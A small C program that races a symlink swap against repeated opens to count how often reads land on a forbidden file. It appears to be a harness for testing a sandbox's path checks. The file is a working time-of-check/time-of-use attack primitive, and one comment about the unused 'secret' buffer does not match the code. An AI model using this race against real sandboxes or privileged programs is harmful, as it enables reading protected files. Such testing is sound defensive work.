// A second thread flips a symlink between an allowed file and a forbidden one
// (atomically: a new link renamed over the old) while the main thread opens
// the link and reads it, ITERATIONS times. Prints how many reads saw the
// forbidden file's contents. Usage: symrace DIR ALLOWED FORBIDDEN ITERATIONS
// (DIR writable; ALLOWED and FORBIDDEN are link targets).
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int dir;
static const char *targets[2];
static atomic_int done;

static void *flip(void *unused) {
    (void)unused;
    for (unsigned long i = 0; !atomic_load(&done); i++) {
        unlinkat(dir, "next", 0);
        if (symlinkat(targets[i & 1], dir, "next") == 0) renameat(dir, "next", dir, "link");
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5) { fprintf(stderr, "usage: symrace DIR ALLOWED FORBIDDEN ITERATIONS\n"); return 2; }
    dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0) { perror(argv[1]); return 2; }
    targets[0] = argv[2];
    targets[1] = argv[3];
    char secret[64] = { 0 };
    int fd = open(argv[3], O_RDONLY);  // fails inside the sandbox: the caller passes the contents' first byte instead
    if (fd >= 0) { ssize_t n = read(fd, secret, sizeof secret - 1); (void)n; close(fd); }
    symlinkat(targets[0], dir, "link");
    pthread_t flipper;
    pthread_create(&flipper, NULL, flip, NULL);
    long leaked = 0, read_ok = 0, refused = 0;
    for (long i = atol(argv[4]); i > 0; i--) {
        int f = openat(dir, "link", O_RDONLY);
        if (f < 0) { refused++; continue; }
        char buffer[64] = { 0 };
        if (read(f, buffer, sizeof buffer - 1) > 0 && strncmp(buffer, "SECRET", 6) == 0) leaked++; else read_ok++;
        close(f);
    }
    atomic_store(&done, 1);
    pthread_join(flipper, NULL);
    printf("allowed %ld leaked %ld refused %ld\n", read_ok, leaked, refused);
    return 0;
}
